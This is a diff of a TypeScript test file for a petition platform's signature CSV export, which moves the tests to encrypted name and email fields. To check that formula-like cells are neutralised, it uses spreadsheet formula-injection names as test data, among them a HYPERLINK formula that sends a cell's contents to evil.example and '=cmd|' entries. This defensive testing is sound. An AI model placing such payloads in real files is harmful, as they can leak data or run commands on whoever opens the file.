@@ -1,9 +1,10 @@
 import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, utimesSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { parse } from 'csv-parse/sync';
-import { sql } from 'drizzle-orm';
+import { eq, sql } from 'drizzle-orm';
 import request from 'supertest';
 import { queryRows } from '../../src/db/client';
+import { signatures } from '../../src/db/schema';
 import { tallyCampaign } from '../../src/petitions/tallies';
 import type { RepresentativeData } from '../../src/representatives/districts';
 import { importRepresentativeData } from '../../src/representatives/import';
@@ -19,6 +20,7 @@ import {
   writeExportFile,
 } from '../../src/staff/exports';
 import { createTestPlatform, eventually, type TestPlatform } from '../helpers/platform';
+import { openedSignatures, signatureValues } from '../helpers/sealed';
 import { signInAs } from '../helpers/staff';
 
 /**
@@ -59,44 +61,32 @@ beforeAll(async () => {
     await request(t.app).post(`/api/v1/campaigns/${slug}/signatures`).send(signer).expect(202);
   }
   // Cells starting with a tab or a carriage return cannot come through the forms; older data might hold them.
-  await t.platform.db.execute(sql`
-    INSERT INTO signatures (campaign_id, email, name, zip, state, opt_in)
-    VALUES (${campaignId}, 'tab@example.org', ${'\tTabbed'}, '80010', 'CO', true),
-           (${campaignId}, 'cr@example.org', ${'\rReturned'}, '80010', 'CO', false)`);
+  await t.platform.db.insert(signatures).values(
+    [
+      { campaignId, email: 'tab@example.org', name: '\tTabbed', zip: '80010', state: 'CO', optIn: true },
+      { campaignId, email: 'cr@example.org', name: '\rReturned', zip: '80010', state: 'CO', optIn: false },
+    ].map((row) => signatureValues(t.platform.encryption, row)),
+  );
   await tallyCampaign(t.platform.db, campaignId, { districtsOf: (zip) => t.platform.representatives.districtsOfZip(zip) });
 });
 afterAll(() => t.close());
 
-interface SignatureRow {
-  id: string;
-  name: string;
-  email: string;
-  zip: string;
-  state: string | null;
-  congressional_district: string | null;
-  state_upper_district: string | null;
-  state_lower_district: string | null;
-  source: string | null;
-  opt_in: boolean;
-  created_at: Date | string;
-}
-
-/** The signature export as it should be, computed here from the table and the representative data. */
+/** The signature export as it should be, computed here from the table (its sealed fields opened) and the representative data. */
 async function expectedSignatures(forCampaign: number, withData: RepresentativeData | null): Promise<Csv> {
-  const rows = await queryRows<SignatureRow>(t.platform.db, sql`SELECT * FROM signatures WHERE campaign_id = ${forCampaign} ORDER BY id`);
+  const rows = await openedSignatures(t.platform, eq(signatures.campaignId, forCampaign));
   return rows.map((row) => {
-    const districts = withData?.describe({ cd: row.congressional_district, sldu: row.state_upper_district, sldl: row.state_lower_district });
+    const districts = withData?.describe({ cd: row.congressionalDistrict, sldu: row.stateUpperDistrict, sldl: row.stateLowerDistrict });
     return {
       name: neutral(row.name),
-      email: row.opt_in ? neutral(row.email) : '',
+      email: row.optIn ? neutral(row.email) : '',
       zip: neutral(row.zip),
       state: neutral(row.state),
-      congressional_district: districts?.congressional ? placeLabel({ congressional: districts.congressional, stateUpper: null, stateLower: null }) : (row.congressional_district ?? ''),
-      state_senate_geoid: neutral(row.state_upper_district),
-      state_house_geoid: neutral(row.state_lower_district),
+      congressional_district: districts?.congressional ? placeLabel({ congressional: districts.congressional, stateUpper: null, stateLower: null }) : (row.congressionalDistrict ?? ''),
+      state_senate_geoid: neutral(row.stateUpperDistrict),
+      state_house_geoid: neutral(row.stateLowerDistrict),
       source: neutral(row.source),
-      opted_in: row.opt_in ? 'yes' : 'no',
-      signed_at: `${new Date(row.created_at).toISOString().slice(0, 19)}Z`,
+      opted_in: row.optIn ? 'yes' : 'no',
+      signed_at: `${new Date(row.createdAt).toISOString().slice(0, 19)}Z`,
     };
   });
 }
@@ -180,6 +170,34 @@ describe('direct exports (streamed in the response)', () => {
       expect(JSON.stringify(audit)).not.toContain(signer.email);
       expect(t.logs()).not.toContain(signer.email);
     }
+  });
+
+  it("opens the supporters' names and opted-in emails for the CSV, while their rows hold them sealed", async () => {
+    const res = await postExport(organizer.agent, organizer.token, 'signatures').expect(200);
+    const rows = parseCsv(res.text);
+    for (const signer of signers) {
+      const [stored] = await queryRows<{ name: Uint8Array; email: Uint8Array }>(
+        t.platform.db,
+        sql`SELECT name, email FROM signatures WHERE campaign_id = ${campaignId} AND email_hash = ${t.platform.encryption.emailHash(signer.email)}::bytea`,
+      );
+      // In the database: bytes that are not the text, which open to it (under the column's own name).
+      for (const [column, plain] of [['name', signer.name], ['email', signer.email]] as const) {
+        const sealed = Buffer.from(stored![column]);
+        expect(sealed.includes(Buffer.from(plain, 'utf8'))).toBe(false);
+        expect(t.platform.encryption.open(`signatures.${column}`, sealed)).toBe(plain);
+      }
+      // In the export: the name in plain text (formula-like ones behind an apostrophe), the email only with consent.
+      const row = rows.find((candidate) => candidate.name === neutral(signer.name));
+      expect(row).toMatchObject({ email: signer.optIn ? signer.email : '', opted_in: signer.optIn ? 'yes' : 'no' });
+    }
+    expect(res.text).toContain('"Ida ""B."" Wells, Jr."');
+    expect(res.text).toContain('Zoë Ünicode');
+    // A name starting with `=`, opened in Node, is still neutralised: the cell starts with an apostrophe, not the formula.
+    const formula = signers[0]!;
+    expect(formula.name.startsWith('=')).toBe(true);
+    expect(rows.filter((row) => row.name!.includes('HYPERLINK')).map((row) => row.name)).toEqual([`'${formula.name}`]);
+    expect(res.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",formula@example.org,`);
+    expect(res.text.split('\n').some((line) => line.startsWith('=') || line.startsWith('"='))).toBe(false);
   });
 
   it('counts by congressional district, with the member of each seat', async () => {
@@ -296,14 +314,25 @@ describe('a large signature export (a job, into a file)', () => {
       sql`INSERT INTO campaigns (slug, title, summary, petition_text, goal) VALUES (${bigSlug}, 'Big export', 'Many signatures.', 'Text.', 100000) RETURNING id`,
     );
     bigId = campaign!.id;
-    // Counted already, so the workers' start-up sweep has nothing to tally here.
-    await t.platform.db.execute(sql`
-      INSERT INTO signatures (campaign_id, email, name, zip, state, congressional_district, source, opt_in, tallied, created_at)
-      SELECT ${bigId}, 'big-' || g || '@example.org',
-             CASE g % 5 WHEN 0 THEN '=cmd|' || g WHEN 1 THEN '+' || g WHEN 2 THEN 'Signer, ' || g ELSE 'Signer "' || g || '"' END,
-             lpad((g % 99999)::text, 5, '0'), 'CO', CASE WHEN g % 3 = 0 THEN '0801' END,
-             CASE WHEN g % 7 = 0 THEN '-src' END, g % 2 = 0, true, now() - make_interval(secs => g)
-      FROM generate_series(1, ${total}) AS g`);
+    // Counted already, so the workers' start-up sweep has nothing to tally here. Sealed here, as the platform seals them.
+    const now = Date.now();
+    const bigSigner = (g: number) =>
+      signatureValues(t.platform.encryption, {
+        campaignId: bigId,
+        email: `big-${g}@example.org`,
+        name: [`=cmd|${g}`, `+${g}`, `Signer, ${g}`, `Signer "${g}"`, `Signer "${g}"`][g % 5]!,
+        zip: String(g % 99999).padStart(5, '0'),
+        state: 'CO',
+        congressionalDistrict: g % 3 === 0 ? '0801' : null,
+        source: g % 7 === 0 ? '-src' : null,
+        optIn: g % 2 === 0,
+        tallied: true,
+        createdAt: new Date(now - g * 1000),
+      });
+    for (let first = 1; first <= total; first += 4000) {
+      const batch = Array.from({ length: Math.min(4000, total - first + 1) }, (_, index) => bigSigner(first + index));
+      await t.platform.db.insert(signatures).values(batch);
+    }
   });
 
   it('is queued, written by the worker with its progress, then downloaded as the database holds it', async () => {
@@ -390,7 +419,7 @@ describe('a large signature export (a job, into a file)', () => {
   });
 
   it('gives the pooled connection back when a reader abandons an export half-way', async () => {
-    const copy = exportCsv(t.platform.database, 'signatures', bigId);
+    const copy = exportCsv(t.platform.database, t.platform.encryption, 'signatures', bigId);
     for await (const chunk of copy.stream) {
       expect((chunk as Buffer).length).toBeGreaterThan(0);
       break;
@@ -466,7 +495,8 @@ describe('a large signature export (a job, into a file)', () => {
 describe('a campaign that requires confirmed signatures', () => {
   test('exports only the confirmed ones', async () => {
     await t.platform.db.execute(sql`UPDATE campaigns SET require_verification = true WHERE id = ${campaignId}`);
-    await t.platform.db.execute(sql`UPDATE signatures SET verified_at = now() WHERE campaign_id = ${campaignId} AND email IN ('ida@example.org', 'grace@example.org')`);
+    await t.platform.db.execute(sql`UPDATE signatures SET verified_at = now() WHERE campaign_id = ${campaignId} 
+      AND email_hash IN (${t.platform.encryption.emailHash('ida@example.org')}::bytea, ${t.platform.encryption.emailHash('grace@example.org')}::bytea)`);
     try {
       const { agent, token } = await signInAs(t.app, t.platform.db, 'organizer');
       const answer = await agent.post(exportsPage).type('form').send({ _csrf: token, kind: 'signatures' }).expect(200);
